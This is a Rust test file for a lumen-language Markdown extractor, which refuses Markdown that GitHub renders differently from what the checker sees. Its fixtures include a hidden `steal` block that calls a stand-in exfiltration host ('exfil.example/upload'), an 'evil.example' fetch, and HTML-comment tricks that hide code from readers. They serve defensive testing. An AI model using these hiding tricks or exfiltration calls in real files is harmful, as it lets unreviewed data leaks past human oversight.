#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]
//! Class: a `.lm.md` program is what CommonMark readers (GitHub among them) see, or it is refused.
//!
//! The earlier extractor split on `\n` and knew nothing of HTML blocks, containers or CR line
//! endings, so `lumen check` passed a file whose only lumen block, as GitHub renders it, made an
//! ungranted call. Each rule of `lumen_lang::source` has a test here asserting the exact
//! [`MarkdownError`] variant, and a property test generates Markdown documents from a grammar of
//! pieces (HTML, lists, quotes, footnotes, front matter, fences of both kinds and several lengths,
//! indented code, LF/CRLF/CR) and asserts that whenever the checker accepts a document, two other
//! CommonMark implementations (comrak, a port of GitHub's cmark-gfm, and markdown-rs) find exactly
//! the same lumen blocks with the same content.

mod common;

use common::codes;
use lumen_lang::source::{
    Container, FenceReading, MarkdownError, MarkdownProgram, Span, markdown_program,
};
use lumen_lang::{Checked, Code, MemLoader, check_source, render_text};
use proptest::prelude::*;
use proptest::test_runner::{Config, TestRunner};
use std::path::{Path, PathBuf};

fn check_md(src: &str) -> Checked {
    check_source(Path::new("main.lm.md"), src, &MemLoader::default())
}

#[track_caller]
fn refused(src: &str) -> Vec<MarkdownError> {
    match markdown_program(src) {
        Ok(p) => panic!("accepted {src:?}: {:?}", p.blocks),
        Err(e) => e,
    }
}

#[track_caller]
fn accepted(src: &str) -> MarkdownProgram {
    match markdown_program(src) {
        Ok(p) => p,
        Err(e) => panic!("refused {src:?}: {e:?}"),
    }
}

/// The text of `span` in `src`.
fn at(src: &str, span: Span) -> &str {
    &src[span.range()]
}

const GRANTS: &str =
    "```lumen\nuse tool http.get as Fetch\ngrant Fetch domain \"api.example.com\"\n```\n";
/// A cell that calls `Fetch` without granting it (E0201).
const UNGRANTED: &str = "cell main() -> String\n  let r = Fetch(url: \"https://api.example.com/\")\n  return r.body\nend\n";

// ----- the reported cases: the program GitHub shows is the program checked -----

#[test]
fn markdown_program_is_what_commonmark_readers_see_fence_in_html_comment() {
    // As reported: the old extractor took ```text inside the comment for a fence and skipped the
    // lumen block. Multi-line HTML is now refused (readers disagree on where HTML blocks end).
    let src = format!("{GRANTS}<!--\n```text\n-->\n\n```lumen\n{UNGRANTED}```\n");
    let e = refused(&src);
    assert!(
        matches!(e[..], [MarkdownError::RawHtml { at: s }] if at(&src, s) == "<!--"),
        "{e:?}"
    );
    assert_eq!(codes(&check_md(&src)), [Code::AmbiguousMarkdown]);
}

#[test]
fn markdown_program_is_what_commonmark_readers_see_after_one_line_comments() {
    // Lines that are one comment closed on the line are allowed, and the lumen block after them is
    // checked.
    let src = format!("{GRANTS}<!-- ```text -->\n<!-- note -->  \n\n```lumen\n{UNGRANTED}```\n");
    let p = accepted(&src);
    assert_eq!(p.blocks.len(), 2);
    assert_eq!(p.blocks[1].content_text(&src), UNGRANTED);
    let c = check_md(&src);
    assert_eq!(
        codes(&c),
        [Code::ToolNotGranted],
        "{}",
        render_text(&c.sources, &c.diagnostics)
    );
    // On the Markdown file's own line (the `Fetch` call is line 10, column 11).
    let d = &c.diagnostics[0];
    let f = c.sources.get(d.file).unwrap();
    assert_eq!(f.line_col(d.span.start), (10, 11));
    assert_eq!(at(&src, d.span), "Fetch");
}

#[test]
fn raw_html_is_refused() {
    for (src, html) in [
        (
            "<details>\n\n```lumen\ncell main()\nend\n```\n\n</details>\n",
            "<details>",
        ),
        ("</pre>\n", "</pre>"),
        ("> <div class=\"x\">\n", "<div class=\"x\">"),
        ("- <span>\n", "<span>"),
        ("[^1]: <br/>\n", "<br/>"),
        ("<?php\n", "<?php"),
        ("<!DOCTYPE html>\n", "<!DOCTYPE html>"),
        ("<![CDATA[\n", "<![CDATA["),
        ("   <!-- open\n", "<!-- open"),
        ("<a\n", "<a"),
    ] {
        let e = refused(src);
        assert!(
            e.iter()
                .any(|e| matches!(e, MarkdownError::RawHtml { at: s } if at(src, *s) == html)),
            "{src:?}: {e:?}"
        );
    }
}

#[test]
fn text_that_is_not_html_is_allowed() {
    for src in [
        "<https://example.com>\n\n```lumen\ncell main()\nend\n```\n",
        "see <https://example.com/a?b=c> and <mailto:a@b.example>\n",
        "text `<span>inline</span>` and ``<!--``\n",
        "<!---->\n",
        "   <!-- a - b -> c -->  \t\n",
        "\u{feff}<!-- after a byte order mark -->\n",
        "<3 and 1 < 2\n",
        "<!-- one line -->\n",
        "```html\n<div>\n<!--\n```\n",
    ] {
        accepted(src);
    }
}

/// The reported bypass: a line opening with a closed comment was exempt from the raw-HTML rule, but
/// the rest of it opened a comment (or a `<details>`) that hides the next lumen block from readers.
const HIDDEN_STEAL: &str = "```lumen\nuse tool http.get as Fetch\ngrant Fetch domain \"exfil.example\"\n\ncell steal() -> String\n  grant Fetch\n  return Fetch(url: \"https://exfil.example/upload\")\nend\n```\n\n<!-- -->\n\n```lumen\ncell main() -> String\n  return \"hello\"\nend\n```\n";

#[test]
fn comment_line_exemption_is_one_whole_comment_only() {
    for (line, html) in [
        ("<!-- note -->x <!--", "<!-- note -->x <!--"),
        ("<!----> x <!--", "<!----> x <!--"),
        ("<!-- a --><!-- b --> <!--", "<!-- a --><!-- b --> <!--"),
        ("  <!-- note -->x <!--", "<!-- note -->x <!--"),
        ("<!-- a --> <details>", "<!-- a --> <details>"),
    ] {
        let src = format!("# Weather helper\n\n{line}\n\n{HIDDEN_STEAL}");
        let e = refused(&src);
        assert!(
            matches!(e[..], [MarkdownError::RawHtml { at: s }] if at(&src, s) == html),
            "{line:?}: {e:?}"
        );
        assert_eq!(
            codes(&check_md(&src)),
            [Code::AmbiguousMarkdown],
            "{line:?}"
        );
    }
}

#[test]
fn raw_html_anywhere_on_a_line_is_refused() {
    for (src, html) in [
        ("x <!--\n", "<!--"),
        ("text <span>inline</span>\n", "<span>inline</span>"),
        ("a <details>\n", "<details>"),
        ("`code` <b>\n", "<b>"),
        ("a `code\n<b>` c\n", "<b>` c"),
        ("\\<div>\n", "<div>"),
        ("| a | <i>b</i> |\n|---|---|\n", "<i>b</i> |"),
        ("<x:y>\n", "<x:y>"),
        ("<a@b.example>\n", "<a@b.example>"),
        ("<https://a b>\n", "<https://a b>"),
        // Browsers end a comment at `--!>`, `<!-->` and `<!--->`; the rest is HTML for them.
        ("<!-- a --!> <details> -->\n", "<!-- a --!> <details> -->"),
        ("<!--> <details> -->\n", "<!--> <details> -->"),
        ("<!---> <details> -->\n", "<!---> <details> -->"),
        ("<!-- a <!-- b -->\n", "<!-- a <!-- b -->"),
        // A comment is exempt only at the top level, after at most three spaces.
        ("> <!-- c -->\n", "<!-- c -->"),
        ("- <!-- c -->\n", "<!-- c -->"),
        (
            "<https://example.com/a?b=<c>\n",
            "<https://example.com/a?b=<c>",
        ),
        ("<!-- c --> x\n", "<!-- c --> x"),
        // A GFM extended autolink that runs into a code span's backtick takes it (cmark-gfm,
        // comrak): the span does not open for those readers, and its `<` is HTML.
        ("\\<https://x.example>`<a>\n!`\n", "<a>"),
        ("see https://x.example/`<a>`\n", "<a>`"),
        ("www.x.example`<a>`\n", "<a>`"),
        ("WWW.x.example`<a>`\n", "<a>`"),
        ("me@x.example`<a>`\n", "<a>`"),
        // Code spans that readers pair differently: across lines (a `-:` line makes a table for
        // GFM readers), after an unclosed run, holding a table cell separator, after `\``.
        ("`<a>\n-:\n`\n", "<a>"),
        ("text`text``\n``\n``<a>``\n", "<a>``"),
        ("`a|<b>`\n", "<b>`"),
        ("\\` `<a>`\n", "<a>`"),
        // A paragraph that one reader continues lazily from a quote and the other starts anew.
        (">\\``\n\t>\n`<a>`\n", "<a>`"),
        // Indented code: after an empty list item, comrak reads the line as HTML in the item.
        ("\t<!-- c --> <b>\n", "<!-- c --> <b>"),
        ("    <div>\n", "<div>"),
        ("-\n\t\n\t<a>\n", "<a>"),
        // A code block that readers close at different lines, or not at all.
        ("```\n```\t\n<!--\n", "<!--"),
        ("```\n<a>\n", "<a>"),
        ("```\n    ```\n<a>\n```\n", "<a>"),
        // A fence not at the left margin.
        (" ```html\n <div>\n ```\n", "<div>"),
    ] {
        let e = refused(src);
        assert!(
            matches!(e[..], [MarkdownError::RawHtml { at: s }] if at(src, s) == html),
            "{src:?}: {e:?}"
        );
    }
}

/// Inline pieces that make raw HTML, autolinks, code spans and comments in varied places.
const INLINE: &[&str] = &[
    "text",
    " ",
    "<",
    ">",
    "!",
    "-",
    "--",
    "/",
    "?",
    "`",
    "``",
    "a",
    "div",
    "details",
    ":",
    "https:",
    "<!--",
    "-->",
    "--!>",
    "<a>",
    "</a>",
    "<https://x.example>",
    "\\",
    "@",
    "\t",
];

#[test]
fn code_spans_hold_html_as_text() {
    for src in [
        "`<a>`\n",
        "a `<div>` b\n",
        "(`<a>`)\n",
        "https://x.example `<a>`\n",
    ] {
        accepted(src);
    }
}

#[test]
fn accepted_documents_hold_no_raw_html_but_whole_line_comments() {
    // Whenever the checker accepts a document, neither cmark-gfm (comrak) nor markdown-rs finds
    // raw HTML in it other than HTML blocks that are one whole-line comment.
    let line = proptest::collection::vec(0..INLINE.len(), 0..8)
        .prop_map(|v| v.into_iter().map(|i| INLINE[i]).collect::<String>());
    let doc = proptest::collection::vec(line, 1..6).prop_map(|v| v.join("\n"));
    let mut runner = TestRunner::new(Config {
        cases: 20_000,
        failure_persistence: None,
        ..Config::default()
    });
    let accepted_n = std::cell::Cell::new(0);
    runner
        .run(&doc, |src| {
            if markdown_program(&src).is_err() {
                return Ok(());
            }
            accepted_n.set(accepted_n.get() + 1);
            let mdrs = markdown_rs_raw_html(&src).unwrap_or_default();
            for html in comrak_raw_html(&src).into_iter().chain(mdrs) {
                let t = html.trim();
                let body = t.strip_prefix("<!--").and_then(|b| b.strip_suffix("-->"));
                prop_assert!(
                    body.is_some_and(|b| !b.contains("-->") && !b.contains("<!--")),
                    "raw HTML {:?} in accepted {:?}",
                    html,
                    src
                );
            }
            Ok(())
        })
        .unwrap_or_else(|e| panic!("{e}"));
    assert!(
        accepted_n.get() >= 1_000,
        "only {} accepted",
        accepted_n.get()
    );
}

/// The raw HTML (blocks and inline) markdown-rs finds in `src` with GFM constructs; `None` where
/// markdown-rs 1.0.0 panics (see [`markdown_rs_blocks`]).
fn markdown_rs_raw_html(src: &str) -> Option<Vec<String>> {
    let root = std::panic::catch_unwind(|| markdown::to_mdast(src, &markdown::ParseOptions::gfm()))
        .ok()?
        .ok()?;
    let mut out = Vec::new();
    let mut stack = vec![&root];
    while let Some(n) = stack.pop() {
        if let markdown::mdast::Node::Html(h) = n {
            out.push(h.value.clone());
        }
        if let Some(c) = n.children() {
            stack.extend(c.iter());
        }
    }
    Some(out)
}

/// The raw HTML (blocks and inline) comrak finds in `src`.
fn comrak_raw_html(src: &str) -> Vec<String> {
    let mut options = comrak::Options::default();
    options.extension.table = true;
    options.extension.strikethrough = true;
    options.extension.tasklist = true;
    options.extension.autolink = true;
    options.extension.footnotes = true;
    let arena = comrak::Arena::new();
    let root = comrak::parse_document(&arena, src, &options);
    let mut out = Vec::new();
    for node in root.descendants() {
        match &node.data.borrow().value {
            comrak::nodes::NodeValue::HtmlBlock(b) => out.push(b.literal.clone()),
            comrak::nodes::NodeValue::HtmlInline(h) => out.push(h.clone()),
            _ => {}
        }
    }
    out
}

#[test]
fn markdown_program_is_what_commonmark_readers_see_unclosed_fence_in_list_item() {
    // CommonMark closes the ```text block when the list item ends.
    let src =
        format!("{GRANTS}- a list item\n  ```text\n  not closed\n\n```lumen\n{UNGRANTED}```\n");
    let p = accepted(&src);
    assert_eq!(p.blocks.len(), 2);
    assert_eq!(codes(&check_md(&src)), [Code::ToolNotGranted]);
}

#[test]
fn markdown_program_is_what_commonmark_readers_see_with_crlf() {
    let src = format!("{GRANTS}\n```lumen\n{UNGRANTED}```\n").replace('\n', "\r\n");
    let p = accepted(&src);
    assert_eq!(p.code.len(), src.len());
    assert_eq!(p.blocks[1].content_text(&src), UNGRANTED);
    let c = check_md(&src);
    assert_eq!(codes(&c), [Code::ToolNotGranted]);
    let d = &c.diagnostics[0];
    assert_eq!(
        c.sources.get(d.file).unwrap().line_col(d.span.start),
        (8, 11)
    );
    assert_eq!(at(&src, d.span), "Fetch");
}

#[test]
fn indented_lumen_fence_is_refused() {
    for pad in [" ", "  ", "   "] {
        let src = format!(
            "{GRANTS}\n{pad}```lumen\n{}{pad}```\n",
            indent(UNGRANTED, pad)
        );
        let e = refused(&src);
        assert!(
            matches!(e[..], [MarkdownError::IndentedLumenFence { fence }] if at(&src, fence) == "```lumen"),
            "{pad:?}: {e:?}"
        );
    }
}

fn indent(s: &str, by: &str) -> String {
    s.lines().map(|l| format!("{by}{l}\n")).collect()
}

// ----- line endings -----

#[test]
fn bare_carriage_return_is_refused() {
    // GitHub breaks the line at the CR, so the call is on a line of its own for a reader.
    let src = format!(
        "{GRANTS}```lumen\ncell main() -> String\n  # note\r  let r = Fetch(url: \"https://x.example/\")\nend\n```\n"
    );
    let e = refused(&src);
    assert!(
        matches!(e[..], [MarkdownError::BareCarriageReturn { at: s }] if at(&src, s) == "\r"),
        "{e:?}"
    );
    assert_eq!(codes(&check_md(&src)), [Code::AmbiguousMarkdown]);
}

#[test]
fn mixed_line_endings_are_refused() {
    let src = "```lumen\r\ncell main()\nend\r\n```\r\n";
    let e = refused(src);
    assert!(
        matches!(e[..], [MarkdownError::MixedLineEndings { crlf, lf }] if crlf.start == 8 && lf.start == 21),
        "{e:?}"
    );
}

#[test]
fn nul_byte_is_refused() {
    let src = "```lumen\ncell main()\n  print(\"a\0\")\nend\n```\n";
    assert!(matches!(refused(src)[..], [MarkdownError::NulByte { .. }]));
}

// ----- containers -----

#[test]
fn lumen_block_in_block_quote_is_refused() {
    let src = format!("{GRANTS}> ```lumen\n> {UNGRANTED}> ```\n");
    let e = refused(&src);
    assert!(
        matches!(e[..], [MarkdownError::LumenBlockInContainer { container: Container::BlockQuote, fence }] if at(&src, fence) == "```lumen"),
        "{e:?}"
    );
    let c = check_md(&src);
    assert_eq!(codes(&c), [Code::AmbiguousMarkdown]);
}

#[test]
fn lumen_block_in_list_item_is_refused() {
    for src in [
        format!(
            "- step one\n\n  ```lumen\n{}  ```\n",
            indent(UNGRANTED, "  ")
        ),
        format!("1. ```lumen\n{}   ```\n", indent(UNGRANTED, "   ")),
        "- [ ] task\n  ```lumen\n  cell main()\n  end\n  ```\n".to_owned(),
    ] {
        let e = refused(&src);
        assert!(
            matches!(
                e[..],
                [MarkdownError::LumenBlockInContainer {
                    container: Container::ListItem,
                    ..
                }]
            ),
            "{src:?}: {e:?}"
        );
    }
}

#[test]
fn lumen_block_in_footnote_is_refused() {
    // GitHub's footnotes hold indented blocks; plain CommonMark would see an indented code block.
    let src = "Text.[^1]\n\n[^1]: note\n\n    ```lumen\n    cell main()\n    end\n    ```\n";
    let e = refused(src);
    assert!(
        matches!(
            e[..],
            [MarkdownError::LumenBlockInContainer {
                container: Container::FootnoteDefinition,
                ..
            }]
        ),
        "{e:?}"
    );
}

// ----- unclosed blocks -----

#[test]
fn unclosed_lumen_block_is_refused() {
    for src in [
        "```lumen\ncell main()\nend\n",
        "```lumen",
        "```lumen\n\n\n",
        "````lumen\ncell main()\nend\n```\n",
        "~~~lumen\ncell main()\nend\n```\n",
        "```lumen\ncell main()\nend\n``` x\n",
    ] {
        let e = refused(src);
        assert!(
            e.iter().any(
                |e| matches!(e, MarkdownError::UnclosedLumenBlock { fence } if fence.start == 0)
            ),
            "{src:?}: {e:?}"
        );
    }
}

#[test]
fn closing_fence_may_be_longer_indented_or_followed_by_spaces() {
    for src in [
        "```lumen\ncell main()\nend\n````\n",
        "~~~lumen\ncell main()\nend\n   ~~~~~ \n",
        "`````lumen\ncell main()\nend\n`````",
    ] {
        let p = accepted(src);
        assert_eq!(p.blocks.len(), 1);
        assert_eq!(
            p.blocks[0].content_text(src),
            "cell main()\nend\n",
            "{src:?}"
        );
    }
}

// ----- info strings -----

#[test]
fn info_string_lumen_with_surrounding_spaces_is_a_lumen_block() {
    for fence in [
        "```lumen",
        "``` lumen",
        "```lumen ",
        "```\tlumen\t",
        "~~~ lumen  ",
    ] {
        let src = format!(
            "{fence}\ncell main()\nend\n{}\n",
            if fence.contains('~') { "~~~" } else { "```" }
        );
        assert_eq!(accepted(&src).blocks.len(), 1, "{fence:?}");
    }
}

#[test]
fn inexact_lumen_info_string_is_refused() {
    for info in [
        "Lumen",
        "LUMEN",
        "lumen foo",
        "lumen,",
        "{.lumen}",
        ".lumen",
        "language-lumen",
        "lumenx",
        "lum&#101;n",
        "lumen\u{a0}",
        "lu\u{200b}men",
        "\u{2060}lumen",
        "\\lumen",
    ] {
        let src = format!("```{info}\ncell main()\nend\n```\n");
        let e = refused(&src);
        assert!(
            matches!(&e[..], [MarkdownError::InexactLumenInfo { info: i, fence }] if i == info && fence.start == 0),
            "{info:?}: {e:?}"
        );
        assert_eq!(codes(&check_md(&src)), [Code::AmbiguousMarkdown]);
    }
}

#[test]
fn other_languages_are_not_part_of_the_program() {
    let src = "```python\nFetch(url: \"https://evil.example/\")\n```\n\n    indented(code)\n\n```\nplain()\n```\n";
    let p = accepted(src);
    assert!(p.blocks.is_empty());
    assert!(p.code.trim().is_empty());
}

// ----- lumen fences that are not lumen blocks -----

#[track_caller]
fn assert_not_a_block(src: &str, reading: FenceReading) {
    let e = refused(src);
    assert!(
        e.iter().any(|e| matches!(e, MarkdownError::LumenFenceNotABlock { reading: r, line } if *r == reading && at(src, *line).contains("lumen"))),
        "{src:?}: {e:?}"
    );
}

#[test]
fn lumen_fence_in_html_is_refused() {
    assert_not_a_block(
        "<!--\n```lumen\ncell main()\nend\n```\n-->\n",
        FenceReading::HtmlBlock,
    );
    assert_not_a_block(
        "<div>\n```lumen\ncell main()\nend\n```\n</div>\n",
        FenceReading::HtmlBlock,
    );
    assert_not_a_block(
        "<pre>\n\n```lumen\ncell main()\nend\n```\n</pre>\n",
        FenceReading::HtmlBlock,
    );
}

#[test]
fn lumen_fence_in_another_code_block_is_refused() {
    assert_not_a_block(
        "````markdown\n```lumen\ncell main()\nend\n```\n````\n",
        FenceReading::CodeBlock,
    );
    assert_not_a_block(
        "    ```lumen\n    cell main()\n    end\n    ```\n",
        FenceReading::CodeBlock,
    );
    assert_not_a_block(
        "\t```lumen\n\tcell main()\n\tend\n\t```\n",
        FenceReading::CodeBlock,
    );
}

#[test]
fn lumen_fence_in_front_matter_is_refused() {
    assert_not_a_block(
        "---\nx: |\n  ```lumen\n  cell main()\n  end\n  ```\n---\n",
        FenceReading::FrontMatter,
    );
    // Found by the differential test: comrak takes this for front matter, pulldown-cmark does not.
    assert_not_a_block("---\n\n```lumen\n```\n---", FenceReading::FrontMatter);
    assert_not_a_block(
        "---\nx: 1\n\n```lumen\n```\n...\n",
        FenceReading::FrontMatter,
    );
    // Without a closing line there is no front matter.
    assert_eq!(accepted("---\n\n```lumen\n```\n").blocks.len(), 1);
    // Found by the differential test: pulldown-cmark's own metadata blocks are not only at the top;
    // here `---` … `---` after a block is a thematic break, then an unclosed HTML comment.
    assert_not_a_block(
        "\n```lumen\n```\n---\n<!--\n---\n\n```lumen\n```",
        FenceReading::HtmlBlock,
    );
}

#[test]
fn lumen_fence_in_text_is_refused() {
    // Inline code, and a line indented four spaces after a paragraph (a continuation line).
    assert_not_a_block("```lumen``` is how a block starts\n", FenceReading::Text);
    assert_not_a_block("a paragraph\n    ```lumen\n", FenceReading::Text);
}

#[test]
fn lumen_fence_in_a_container_but_not_a_block_is_refused() {
    // A paragraph continuation line in the quote, then an indented code block in it.
    assert_not_a_block(
        "> text\n>     ```lumen\n",
        FenceReading::Container(Container::BlockQuote),
    );
    assert_not_a_block("> text\n>\n>     ```lumen\n", FenceReading::CodeBlock);
    assert_not_a_block(
        "- item\n\n      ```lumen\n      x\n",
        FenceReading::CodeBlock,
    );
}

// ----- inside lumen blocks -----

#[test]
fn fence_like_line_inside_lumen_block_is_refused() {
    // A reader may take the four-space-indented fence for the end of the block.
    let src = "```lumen\ncell main() -> String\n    ```\n  let r = Fetch(url: \"https://x.example/\")\nend\n```\n";
    let e = refused(src);
    assert!(
        matches!(e[..], [MarkdownError::FenceInLumenBlock { line, fence }] if at(src, line) == "    ```" && fence.start == 0),
        "{e:?}"
    );
    let src = "```lumen\ncell main()\n~~~\nend\n```\n";
    assert!(matches!(
        refused(src)[..],
        [MarkdownError::FenceInLumenBlock { .. }]
    ));
}

#[test]
fn content_changed_by_commonmark_is_refused() {
    // An opening fence indented two spaces strips two columns; a tab there is split into spaces.
    let src = "  ```lumen\n\tcell main()\n  end\n  ```\n";
    let e = refused(src);
    assert!(
        matches!(e[..], [MarkdownError::IndentedLumenFence { .. }, MarkdownError::ContentNotVerbatim { at }] if at.start == 12),
        "{e:?}"
    );
}

#[test]
fn byte_order_mark_is_skipped() {
    let src = "\u{feff}```lumen\ncell main()\nend\n```\n";
    let p = accepted(src);
    assert_eq!(p.blocks.len(), 1);
    assert_eq!(p.code.len(), src.len());
}

#[test]
fn refused_module_is_reported_once_in_its_own_file() {
    let mut loader = MemLoader::default();
    loader.files.insert(
        PathBuf::from("lib.lm.md"),
        "> ```lumen\n> cell hello() -> String\n>   return \"hi\"\n> end\n> ```\n".to_owned(),
    );
    let c = check_source(
        Path::new("main.lm"),
        "import lib\ncell main() -> String\n  return lib.hello()\nend\n",
        &loader,
    );
    assert_eq!(codes(&c), [Code::AmbiguousMarkdown]);
    let f = c.sources.get(c.diagnostics[0].file).unwrap();
    assert_eq!(f.path, Path::new("lib.lm.md"));
    assert!(c.cells.iter().all(|i| i.name != "hello"));
}

#[test]
fn every_error_span_is_inside_the_file_and_rendered() {
    let src =
        "> ```lumen\n> x\n> ```\n\n```Lumen\n```\n<!--\n```lumen\n-->\n\n```lumen\n    ```\n```\n";
    let e = refused(src);
    assert!(
        matches!(
            e[..],
            [
                MarkdownError::LumenBlockInContainer { .. },
                MarkdownError::InexactLumenInfo { .. },
                MarkdownError::RawHtml { .. },
                MarkdownError::LumenFenceNotABlock {
                    reading: FenceReading::HtmlBlock,
                    ..
                },
                MarkdownError::FenceInLumenBlock { .. },
            ]
        ),
        "{e:?}"
    );
    for x in &e {
        assert!(src.get(x.span().range()).is_some(), "{x:?}");
    }
    let c = check_md(src);
    assert_eq!(codes(&c), [Code::AmbiguousMarkdown; 5]);
    let text = render_text(&c.sources, &c.diagnostics);
    assert_eq!(text.matches("error[E0301]").count(), 5, "{text}");
}

/// The minimal documents on which the differential test below found readers that disagree (before
/// the rule that refuses each was added), with what each reader saw.
#[test]
fn documents_readers_disagree_on_are_refused() {
    for src in [
        // comrak and pulldown-cmark: `</pre>` is raw HTML, both fences are top-level lumen blocks;
        // markdown-rs: it is text that `text` continues, and the first fence is in the list item.
        "Text[^1]\n- </pre>\ntext\n  ```lumen\n```\n```lumen\n```",
        // comrak: front matter up to the second `---`; pulldown-cmark and markdown-rs: none.
        "---\n\n```lumen\n```\n---",
        // pulldown-cmark: a metadata block after the first block; comrak: an HTML comment to the end.
        "\n```lumen\n```\n---\n<!--\n---\n\n```lumen\n```",
        // comrak: the comment runs on past the list item; pulldown-cmark: it ends with the item.
        "- ===\n<span>\n\n  <!--\n\n```lumen\n```",
        // markdown-rs: `<!--` opens a comment to the end; comrak: it is in the HTML block `<a …>`.
        "| a | b |\n>\n<a href=\"x\">\n<!--\n\n```lumen\n```",
        "> - | a | b |\n\n```lumen\n```\n<a href=\"x\">\n<!--\n\n```lumen\n```",
        // markdown-rs: `</pre>` is text, the fence under it is in the item (`lum&#101;n` = lumen).
        "Text[^1]\n- </pre>\n  ```lum&#101;n\n```",
    ] {
        refused(src);
    }
}

// ----- differential: generated documents, three CommonMark readers -----

/// Lines that change how the lines after them are read (and some plain ones).
const PIECES: &[&str] = &[
    "",
    "",
    "",
    "text",
    "text <!--",
    "-->",
    "<!-- c -->",
    "---",
    "***",
    "# h",
    "===",
    "[^1]: note",
    "Text[^1]",
    "| a | b |",
    "|---|---|",
    "x ```lumen",
    "?>",
    ">",
    "]]>",
    "+++",
    "...",
    "1) x",
    "10. x",
    "-\tx",
    "[x]: /url",
    "    text",
    "<https://x.example>",
];

/// Raw HTML lines.
const HTML: &[&str] = &[
    "<!--",
    "<div>",
    "</div>",
    "<details>",
    "</details>",
    "<pre>",
    "</pre>",
    "<script>",
    "</script>",
    "<textarea>",
    "<?x",
    "<!X",
    "<![CDATA[",
    "<span>",
    "</span>",
    "<a href=\"x\">",
];

/// Prefixes: none, indentation (up to an indented code block), quotes, list items.
const PREFIXES: &[&str] = &[
    "", "", "", "", "", "", " ", "  ", "   ", "    ", "\t", "> ", ">", "- ", "* ", "1. ", "  - ",
    "> - ", "- > ",
];

/// Info strings of lumen blocks: mostly exact, sometimes not.
const LUMEN_INFOS: &[&str] = &[
    "lumen",
    "lumen",
    "lumen",
    "lumen",
    "lumen",
    " lumen ",
    "lumen\t",
    "Lumen",
    "lumen x",
    "{.lumen}",
    "lum&#101;n",
];

/// Info strings of other fences.
const OTHER_INFOS: &[&str] = &["", "", "text", "text", "python", "python", "lumen", "md"];

/// Lines of lumen blocks (with tabs and indentation that indented fences strip).
const CODE: &[&str] = &[
    "cell main()",
    "end",
    "  let x = 1",
    "  let x = 1",
    "\tlet y = 2",
    " \tz",
    "",
    "# comment <!--",
    "  -->",
    "- not a list",
    "> not a quote",
    "    ```",
    "~~~",
];

fn fence() -> impl Strategy<Value = (char, usize)> {
    (prop_oneof![Just('`'), Just('~')], 3usize..6)
}

/// A noise line: a prefix and a piece, or a prefix and a fence of another language.
fn noise() -> impl Strategy<Value = Vec<String>> {
    prop_oneof![
        6 => (0..PREFIXES.len(), 0..PIECES.len())
            .prop_map(|(p, x)| vec![format!("{}{}", PREFIXES[p], PIECES[x])]),
        1 => (0..PREFIXES.len(), 0..HTML.len())
            .prop_map(|(p, x)| vec![format!("{}{}", PREFIXES[p], HTML[x])]),
        2 => (0..PREFIXES.len(), fence(), 0..OTHER_INFOS.len()).prop_map(|(p, (c, n), i)| {
            vec![format!("{}{}{}", PREFIXES[p], c.to_string().repeat(n), OTHER_INFOS[i])]
        }),
    ]
}

/// A lumen block at (nearly) the left margin, usually well formed.
fn lumen_block() -> impl Strategy<Value = Vec<String>> {
    (
        prop_oneof![12 => Just(0usize), 1 => 1usize..5],
        fence(),
        0..LUMEN_INFOS.len(),
        proptest::collection::vec(0..CODE.len(), 0..5),
        prop_oneof![8 => 0usize..3, 1 => Just(usize::MAX)],
        0usize..4,
        any::<bool>(),
        prop_oneof![6 => Just(true), 1 => Just(false)],
    )
        .prop_map(
            |(indent, (c, n), info, code, longer, close_indent, prefix_code, blank)| {
                let pad = " ".repeat(indent);
                let mut lines = Vec::new();
                if blank {
                    lines.push(String::new());
                }
                lines.push(format!(
                    "{pad}{}{}",
                    c.to_string().repeat(n),
                    LUMEN_INFOS[info]
                ));
                for i in code {
                    let l = CODE[i];
                    lines.push(if prefix_code {
                        format!("{pad}{l}")
                    } else {
                        l.to_owned()
                    });
                }
                // `usize::MAX`: a closing fence one shorter than the opening one (it does not close).
                let len = if longer == usize::MAX {
                    n - 1
                } else {
                    n + longer
                };
                lines.push(format!(
                    "{}{}",
                    " ".repeat(close_indent),
                    c.to_string().repeat(len)
                ));
                lines
            },
        )
}

/// A document: segments joined by one line ending (LF, CRLF, or, rarely, CR or a mix).
fn document() -> impl Strategy<Value = String> {
    (
        proptest::collection::vec(prop_oneof![2 => lumen_block(), 3 => noise()], 0..12),
        prop_oneof![12 => Just("\n"), 6 => Just("\r\n"), 1 => Just("\r"), 1 => Just("mixed")],
        any::<bool>(),
    )
        .prop_map(|(segments, eol, last)| {
            let lines: Vec<String> = segments.into_iter().flatten().collect();
            let mut s = String::new();
            for (i, l) in lines.iter().enumerate() {
                s.push_str(l);
                if i + 1 < lines.len() || last {
                    s.push_str(match eol {
                        "mixed" if i % 2 == 0 => "\r\n",
                        "mixed" => "\n",
                        e => e,
                    });
                }
            }
            s
        })
}

/// `(info, content)` of every fenced block whose info string mentions `lumen`, per comrak with
/// GitHub's extensions.
fn comrak_blocks(src: &str) -> Vec<(String, String)> {
    let mut options = comrak::Options::default();
    options.extension.table = true;
    options.extension.strikethrough = true;
    options.extension.tasklist = true;
    options.extension.autolink = true;
    options.extension.footnotes = true;
    options.extension.front_matter_delimiter = Some("---".to_owned());
    let arena = comrak::Arena::new();
    let root = comrak::parse_document(&arena, src, &options);
    let mut out = Vec::new();
    for node in root.descendants() {
        if let comrak::nodes::NodeValue::CodeBlock(cb) = &node.data.borrow().value
            && cb.fenced
            && cb.info.to_lowercase().contains("lumen")
        {
            out.push((cb.info.clone(), cb.literal.replace("\r\n", "\n")));
        }
    }
    out
}

/// The same, per markdown-rs with GFM (and front matter where the file has a closed one); `None`
/// where markdown-rs 1.0.0 panics (its mdast builder hits `unreachable!` or an overflow on some
/// nested lists, e.g. "1. ```\n- ```").
///
/// Front matter is enabled only for a file with a first line `---` and a later one: with it enabled,
/// markdown-rs 1.0.0 misreads what follows an unclosed `---` ("---\n- ```\n  ```" loses the list
/// item), which no reader does.
fn markdown_rs_blocks(src: &str) -> Option<Vec<(String, String)>> {
    let mut lines = src.split('\n').map(|l| l.trim_end_matches('\r'));
    let closed_front_matter = lines.next() == Some("---") && lines.any(|l| l == "---");
    let root = std::panic::catch_unwind(|| {
        let mut options = markdown::ParseOptions::gfm();
        options.constructs.frontmatter = closed_front_matter;
        markdown::to_mdast(src, &options)
    })
    .ok()?;
    let Ok(root) = root else {
        panic!("markdown-rs refused {src:?}");
    };
    let mut out = Vec::new();
    let mut stack = vec![&root];
    while let Some(n) = stack.pop() {
        if let markdown::mdast::Node::Code(c) = n {
            let info = [c.lang.as_deref(), c.meta.as_deref()]
                .into_iter()
                .flatten()
                .collect::<Vec<_>>()
                .join(" ");
